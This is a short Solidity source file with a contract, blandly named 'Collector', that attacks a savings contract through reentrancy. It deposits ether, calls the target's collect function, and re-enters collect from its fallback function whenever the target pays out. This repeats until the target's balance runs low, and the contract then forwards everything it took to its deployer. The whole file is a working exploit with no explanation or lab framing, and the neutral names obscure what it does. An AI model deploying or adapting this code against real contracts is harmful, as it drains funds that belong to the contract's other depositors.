pragma solidity 0.4.24;

interface ISavings {
    function deposit(uint lockDays) external payable;
    function collect(uint _am) external;
}

contract Collector {
    ISavings public box;
    address private boss;
    uint private chunk;

    constructor() public {
        boss = msg.sender;
    }

    function go(ISavings _box) public payable {
        box = _box;
        chunk = msg.value;
        box.deposit.value(msg.value)(0);
        box.collect(chunk);
        boss.transfer(address(this).balance);
    }

    function () public payable {
        if (msg.sender == address(box) && address(box).balance >= chunk) {
            box.collect(chunk);
        }
    }
}
